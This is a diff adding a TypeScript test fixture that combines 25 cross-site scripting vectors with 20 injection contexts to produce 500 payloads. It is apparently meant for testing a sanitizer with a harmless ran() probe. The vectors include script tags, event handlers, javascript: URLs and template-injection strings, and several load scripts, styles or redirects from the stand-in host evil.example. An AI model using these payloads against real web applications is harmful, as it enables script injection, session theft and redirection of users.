@@ -1,0 +1,55 @@
+/** What each would do if it ran: `ran()` is put into the page by the test. */
+const VECTORS: readonly string[] = [
+  "<script>ran()</script>",
+  "<script src=https://evil.example/x.js></script>",
+  "<img src=x onerror=ran()>",
+  "<img src=https://evil.example/pixel.gif>",
+  "<svg onload=ran()>",
+  "<svg><script>ran()</script></svg>",
+  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
+  "<body onload=ran()>",
+  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+  "<iframe src=javascript:parent.ran()></iframe>",
+  "<a href=javascript:ran() autofocus onfocus=ran() tabindex=0>x</a>",
+  "<details open ontoggle=ran()>",
+  "<input autofocus onfocus=ran()>",
+  "<video><source onerror=ran()></video>",
+  "<math><mtext><mglyph><style><img src=x onerror=ran()>",
+  "<object data=javascript:ran()></object><embed src=https://evil.example/e>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<style>@import url(https://evil.example/x.css);</style>",
+  "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
+  "<form action=https://evil.example/><button autofocus onfocus=ran() formaction=javascript:ran()>x</button></form>",
+  "<template><img src=x onerror=ran()></template><noscript><p title='</noscript><img src=x onerror=ran()>'>",
+  "javascript:ran()//<",
+  "data:text/html,<script>ran()</script>",
+  "{{constructor.constructor('ran()')()}}<${ran()}>#{ran()} <%= ran() %>",
+  '"}]);ran();//\u2028ran()//</script><script>ran()</script>',
+];
+
+/** Where a value may land: text, attributes, scripts, comments, and after somebody decoded it once too often. */
+const CONTEXTS: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `Hannelore ${vector} Brandt`,
+  (vector) => `"${vector}`,
+  (vector) => `'${vector}`,
+  (vector) => `">${vector}`,
+  (vector) => `'>${vector}`,
+  (vector) => `" onmouseover=ran() x="${vector}`,
+  (vector) => `</title>${vector}`,
+  (vector) => `</textarea>${vector}`,
+  (vector) => `</style>${vector}`,
+  (vector) => `</script>${vector}`,
+  (vector) => `--><!-->${vector}`,
+  (vector) => `]]>${vector}`,
+  (vector) => `\\"${vector}\\`,
+  (vector) => `\`${vector}`,
+  (vector) => vector.toUpperCase().replaceAll("RAN", "ran"),
+  (vector) => encodeURIComponent(vector),
+  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&#62;"),
+  (vector) => vector.replaceAll("<", String.raw`\u003c`).replaceAll(">", String.raw`\x3e`),
+  (vector) => vector.replaceAll("<", "＜").replaceAll(" ", "/"),
+];
+
+/** Every vector in every context: 500. */
+export const xssPayloads: readonly string[] = CONTEXTS.flatMap((wrap) => VECTORS.map(wrap));
